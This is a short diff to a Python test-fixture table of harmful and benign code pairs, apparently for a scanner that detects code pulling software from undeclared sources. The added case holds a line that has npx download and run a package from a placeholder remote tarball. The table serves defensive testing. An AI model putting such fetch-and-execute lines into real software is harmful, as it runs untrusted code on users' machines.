@@ -70,6 +70,12 @@ HARM: dict[str, tuple[str, str, str, str]] = {
         '{"dependencies": {"axios": "https://p.example.invalid/axios-1.tgz"}}\n',
         '{"dependencies": {"axios": "1.7.4"}, "homepage": "https://p.example.invalid/"}\n',
     ),
+    "npx runs a stranger's package": (
+        "undeclared-source",
+        "a.py",
+        "subprocess.run(['npx', '--yes', '-p', 'https://p.example.invalid/q.tgz', 'q'])\n",
+        "subprocess.run(['npx', 'qrcode', '-t', 'png', 'https://p.example.invalid/q.tgz'])\n",
+    ),
     "deno runs a stranger's program": (
         "undeclared-source",
         "a.sh",
